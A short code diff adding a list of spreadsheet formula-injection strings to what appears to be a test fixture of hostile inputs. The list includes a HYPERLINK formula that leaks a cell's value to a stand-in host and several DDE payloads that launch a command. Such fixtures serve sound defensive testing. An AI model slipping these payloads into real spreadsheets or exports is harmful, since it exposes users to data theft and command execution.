@@ -83,3 +83,19 @@ HOSTILE_URLS = [
 ]
 
 assert len(HOSTILE_STRINGS) >= 50
+
+#: Cells a spreadsheet would run as formulas (OWASP "CSV injection"), from article text or a shared sheet.
+FORMULA_STRINGS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click for the report")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+    "''-2+3",
+    "=1+1",
+    "-",
+    "@",
+]
